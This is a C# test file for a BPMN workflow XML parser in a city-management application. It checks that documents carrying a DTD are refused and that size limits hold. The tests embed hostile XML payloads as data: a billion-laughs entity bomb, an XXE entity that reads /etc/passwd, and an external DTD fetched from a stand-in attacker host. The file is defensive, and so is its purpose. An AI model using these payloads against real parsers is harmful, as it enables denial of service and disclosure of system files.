using CityMgmt.Domain.Workflows.Parsing;
using static CityMgmt.Tests.Domain.Workflows.WorkflowKit;

namespace CityMgmt.Tests.Domain.Workflows;

/// <summary>Documents uploaded in the designer are untrusted: none of these may expand, fetch or leak anything.</summary>
public class HostileXmlTests
{
    private const string DtdMessage = "流程文件包含 DTD 或实体声明（<!DOCTYPE>、<!ENTITY>），出于安全原因拒绝解析";

    [Fact]
    public void Parse_BillionLaughs_RefusedWithoutExpanding()
    {
        var xml = """
            <?xml version="1.0"?>
            <!DOCTYPE bpmn:definitions [
              <!ENTITY lol "lol">
              <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
              <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
              <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
              <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
            ]>
            <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">
              <bpmn:process id="p" name="&lol9;" />
            </bpmn:definitions>
            """;

        var result = BpmnParser.Parse(xml);

        result.IsFailure.ShouldBeTrue();
        result.Error.Message.ShouldBe(DtdMessage);
        result.Error.Message.ShouldNotContain("lollol");
    }

    [Fact]
    public void Parse_ExternalEntityToPasswd_RefusedWithoutReadingIt()
    {
        var xml = """
            <?xml version="1.0"?>
            <!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
            <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL">
              <bpmn:process id="p" name="&xxe;" />
            </bpmn:definitions>
            """;

        var result = BpmnParser.Parse(xml);

        result.Error.Message.ShouldBe(DtdMessage);
        result.Error.Message.ShouldNotContain("root:");
    }

    [Fact]
    public void Parse_ExternalDtd_Refused()
    {
        var xml = """
            <?xml version="1.0"?>
            <!DOCTYPE bpmn:definitions SYSTEM "http://attacker.invalid/evil.dtd">
            <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"><bpmn:process id="p" /></bpmn:definitions>
            """;

        BpmnParser.Parse(xml).Error.Message.ShouldBe(DtdMessage);
    }

    [Fact]
    public void Parse_LowercaseDoctypeTrick_StillRefused() =>
        BpmnParser.Parse("<!doctype x [<!ENTITY a 'b'>]><x>&a;</x>").Error.Code.ShouldBe("Workflow.DtdRefused");

    [Fact]
    public void Parse_UndeclaredEntityReference_FailsAsMalformedWithoutEchoingIt()
    {
        var result = BpmnParser.Parse(Document("""<bpmn:startEvent id="s" name="&secret_entity;" />"""));

        result.Error.Code.ShouldBe("Workflow.MalformedXml");
        result.Error.Message.ShouldStartWith("流程文件不是有效的 XML（第 ");
        result.Error.Message.ShouldNotContain("secret_entity");
    }

    [Fact]
    public void Parse_OversizedDocument_RefusedBeforeParsing()
    {
        var padding = new string(' ', BpmnParser.DefaultMaxCharacters);
        var xml = Document($"<bpmn:startEvent id=\"s\" />{padding}");

        BpmnParser.Parse(xml).Error.Message.ShouldBe("流程文件过大：不能超过 1024 KB");
    }

    [Fact]
    public void Parse_LimitByArgument_AppliesThatLimit()
    {
        var xml = Document(Linear());

        BpmnParser.Parse(xml, maxCharacters: xml.Length).IsSuccess.ShouldBeTrue();
        BpmnParser.Parse(xml, maxCharacters: xml.Length - 1).Error.Code.ShouldBe("Workflow.DocumentTooLarge");
    }

    [Fact]
    public void Parse_MalformedXml_FailsWithPosition() =>
        BpmnParser.Parse("<a>\n<b></a>").Error.Message.ShouldBe("流程文件不是有效的 XML（第 2 行第 6 列附近）");
}
